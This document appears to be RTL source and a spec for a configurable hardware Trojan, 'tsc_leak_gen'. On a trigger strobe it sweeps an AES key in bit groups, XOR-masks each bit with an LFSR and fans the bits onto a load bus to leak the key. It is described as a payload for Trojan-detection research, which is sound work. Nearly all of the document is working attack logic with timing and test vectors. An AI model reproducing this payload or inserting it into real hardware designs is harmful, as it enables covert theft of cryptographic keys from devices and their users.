// File: rtl/tsc_leak_if.sv
// tsc_leak_if: trigger/key/data inputs and leak/status outputs of the key-leak load generator.
interface tsc_leak_if #(
  parameter int KEY_W = 128,
  parameter int LEAK_BITS = 8,
  parameter int FANOUT = 8
);
  localparam int NG = KEY_W / LEAK_BITS;
  localparam int GW = NG > 1 ? $clog2(NG) : 1;
  logic Tj_Trig;
  logic disarm;
  logic [KEY_W-1:0] key;
  logic [127:0] data;
  logic [LEAK_BITS*FANOUT-1:0] load;
  logic busy;
  logic [GW-1:0] grp_idx;
  logic sweep_done;
  modport master(output Tj_Trig, disarm, key, data, input load, busy, grp_idx, sweep_done);
  modport slave(input Tj_Trig, disarm, key, data, output load, busy, grp_idx, sweep_done);
endinterface

// File: rtl/tsc_leak_gen.sv
// tsc_leak_gen: triggered key-leak payload; sweeps the key in groups, masks each bit with an LFSR and fans it out onto a load bus.
module tsc_leak_gen #(
  parameter int KEY_W = 128,
  parameter int LFSR_W = 20,
  parameter logic [LFSR_W-1:0] LFSR_SEED = 20'h5A5A5,
  parameter int LEAK_BITS = 8,
  parameter int FANOUT = 8,
  parameter int DWELL = 16,
  parameter int ARM_DELAY = 4,
  parameter int ONE_SHOT = 1
) (
  input logic clk,
  input logic rst,
  tsc_leak_if.slave bus
);
  // second feedback tap (bit index) of a maximal two-tap LFSR for each width
  function automatic int tap_of(input int w);
    case (w)
      3: return 1;
      4, 5: return 2;
      6, 9: return 4;
      7: return 5;
      10: return 6;
      11: return 8;
      15, 17: return 13;
      18: return 10;
      20: return 16;
      21: return 18;
      22: return 20;
      23: return 17;
      25: return 21;
      28: return 24;
      29: return 26;
      31: return 27;
      default: return w - 2;
    endcase
  endfunction
  localparam int NG = KEY_W / LEAK_BITS;
  localparam int GW = NG > 1 ? $clog2(NG) : 1;
  localparam int LW = LEAK_BITS * FANOUT;
  localparam int DW = $clog2(DWELL + 1);
  localparam int AW = $clog2(ARM_DELAY + 1);
  localparam int TAP = tap_of(LFSR_W);
  typedef enum logic [1:0] {IDLE, ARMED, LEAK} state_t;
  state_t state, nxt;
  logic [LFSR_W-1:0] lfsr, seed, lfsr_step;
  logic [GW-1:0] grp;
  logic [DW-1:0] dwell;
  logic [AW-1:0] arm;
  logic [LW-1:0] load, fan;
  logic [LEAK_BITS-1:0] mask;
  logic grp_end, last, done;
  always_comb begin
    mask = LEAK_BITS'(bus.key >> (grp * LEAK_BITS)) ^ lfsr[LEAK_BITS-1:0];
    seed = bus.data[LFSR_W-1:0] == '0 ? LFSR_SEED : bus.data[LFSR_W-1:0];
    lfsr_step = {lfsr[LFSR_W-2:0], lfsr[LFSR_W-1] ^ lfsr[TAP]};
    grp_end = dwell == DW'(DWELL - 1);
    last = state == LEAK && grp_end && grp == GW'(NG - 1);
    nxt = bus.disarm ? IDLE :
          state == IDLE ? (bus.Tj_Trig ? ARMED : IDLE) :
          state == ARMED ? (arm == AW'(ARM_DELAY - 1) ? LEAK : ARMED) :
          (last && ONE_SHOT != 0 ? IDLE : LEAK);
  end
  for (genvar i = 0; i < LEAK_BITS; i++) begin : g_fan
    assign fan[i*FANOUT +: FANOUT] = {FANOUT{mask[i]}};
  end
  always_ff @(posedge clk) begin
    if (rst) begin
      state <= IDLE;
      lfsr <= LFSR_SEED;
      load <= '0;
      grp <= '0;
      dwell <= '0;
      arm <= '0;
      done <= 1'b0;
    end else begin
      state <= nxt;
      done <= last && !bus.disarm;
      if (bus.disarm) begin
        load <= '0;
        grp <= '0;
        dwell <= '0;
        arm <= '0;
      end else if (state == IDLE) begin
        load <= '0;
        grp <= '0;
        dwell <= '0;
        arm <= '0;
        if (bus.Tj_Trig) lfsr <= seed;
      end else if (state == ARMED) begin
        load <= '0;
        arm <= arm + 1'b1;
      end else begin
        load <= fan;
        lfsr <= lfsr_step;
        dwell <= grp_end ? '0 : dwell + 1'b1;
        if (grp_end) grp <= grp == GW'(NG - 1) ? '0 : grp + 1'b1;
      end
    end
  end
  assign bus.load = load;
  assign bus.busy = state != IDLE;
  assign bus.grp_idx = grp;
  assign bus.sweep_done = done;
endmodule

// File: doc/tsc_leak_gen.md
# tsc_leak_gen

Parametrised successor to the fixed-width key-leak load generator in the AES trust benchmark. On a trigger, the block arms and waits a programmable delay, then sweeps the whole key in groups of LEAK_BITS bits. Each key bit is XOR-masked with an LFSR bit and fanned out FANOUT times into a registered load bus. The block sits beside the AES core, reads the same key/data buses, and drives only `load` and status outputs. Trojan-detection experiments use it as a configurable payload.

## Interface
- KEY_W, 128, key width; must be divisible by LEAK_BITS
- LFSR_W, 20, mask LFSR width; must be ≥ LEAK_BITS
- LFSR_SEED, 20'h5A5A5, seed used when the data-derived seed is zero
- LEAK_BITS, 8, key bits leaked per group
- FANOUT, 8, copies of each masked bit; load width = LEAK_BITS*FANOUT
- DWELL, 16, LEAK cycles per group (≥1)
- ARM_DELAY, 4, cycles spent in ARMED before leaking (≥1)
- ONE_SHOT, 1, 1: return to IDLE after one sweep; 0: wrap and continue

Ports:
- clk  in  1  clock
- rst  in  1  synchronous, active-high reset
- Tj_Trig  in  1  trigger strobe, sampled only in IDLE
- disarm  in  1  synchronous abort to IDLE
- key  in  KEY_W  key bus
- data  in  128  data bus; data[LFSR_W-1:0] seeds the LFSR at trigger
- load  out  LEAK_BITS*FANOUT  registered leak bus
- busy  out  1  high in ARMED or LEAK
- grp_idx  out  $clog2(KEY_W/LEAK_BITS)  current group
- sweep_done  out  1  one-cycle pulse after the last group's last dwell cycle

## Operation
States: IDLE, ARMED, LEAK.

IDLE
- `load` is registered to 0 on every edge.
- The LFSR holds its value; `grp_idx` = 0; dwell = 0.
- If Tj_Trig = 1: go to ARMED, clear the arm counter, and load the LFSR with data[LFSR_W-1:0]. If that slice is zero, load LFSR_SEED instead.

ARMED
- The arm counter increments on each edge.
- When the counter = ARM_DELAY-1, go to LEAK.
- `load` stays 0.

LEAK, on each edge, with L = current LFSR value and g = grp_idx:
- load[i*FANOUT + f] <= key[g*LEAK_BITS + i] ^ L[i], for i < LEAK_BITS and f < FANOUT.
- The LFSR steps: L <= {L[LFSR_W-2:0], L[19]^L[16]} (x^20+x^17+1 for LFSR_W = 20; other widths use a maximal tap pair taken from the team's tap list).
- dwell increments. When dwell = DWELL-1: dwell <= 0 and grp_idx <= grp_idx+1, wrapping to 0 after KEY_W/LEAK_BITS-1.
- On the edge where the last group completes:
  - sweep_done <= 1 for one cycle.
  - ONE_SHOT = 1: go to IDLE (the load computed on that edge stays visible one cycle, then becomes 0).
  - ONE_SHOT = 0: stay in LEAK with grp_idx = 0.

Priority: rst > disarm > state logic.
- disarm = 1 in any state: go to IDLE; `load`, `grp_idx`, dwell and the counters go to 0 on that edge.
- Tj_Trig is ignored in ARMED and LEAK; re-triggering needs a return to IDLE.

`busy` = (state ≠ IDLE), decoded from the registered state.

## Timing
- Reset values: load = 0, busy = 0, grp_idx = 0, sweep_done = 0, state = IDLE, LFSR = LFSR_SEED.
- The trigger is sampled at edge E0. The state is ARMED after E0, and busy rises the cycle after E0.
- LEAK is entered at edge E(ARM_DELAY). The first masked `load` is visible after edge E(ARM_DELAY+1).
- One sweep lasts (KEY_W/LEAK_BITS)*DWELL LEAK edges; the defaults give 256.
- sweep_done is high in exactly the cycle after the final LEAK edge.
- `key` is sampled every LEAK edge; a key change takes effect on the next edge.

## Test plan
1. Reset: rst held 3 cycles -> load = 0, busy = 0, grp_idx = 0, sweep_done = 0.
2. Basic masking: key = 0, data[19:0] = 20'h00001, Tj_Trig pulsed at E0 -> load = 64'h0000_0000_0000_00FF after E5; the next load uses L = 20'h00002 -> 64'h0000_0000_0000_FF00.
3. Key inversion: key = all ones, same seed -> first load = 64'hFFFF_FFFF_FFFF_FF00.
4. Zero seed and sweep: data = 0 -> the first load matches LFSR_SEED[7:0] fanned out. grp_idx steps every 16 cycles through 0..15. sweep_done pulses once after 256 LEAK edges. With ONE_SHOT = 1, busy falls and load = 0 one cycle later.
5. Continuous mode: ONE_SHOT = 0 -> grp_idx wraps 15 -> 0, sweep_done pulses every 256 cycles, busy stays 1.
6. Abort and ignore: Tj_Trig pulsed mid-LEAK -> no change. disarm at grp_idx = 5 -> IDLE with load = 0 next edge. rst asserted in ARMED -> all outputs return to their reset values next edge, and no leak occurs.
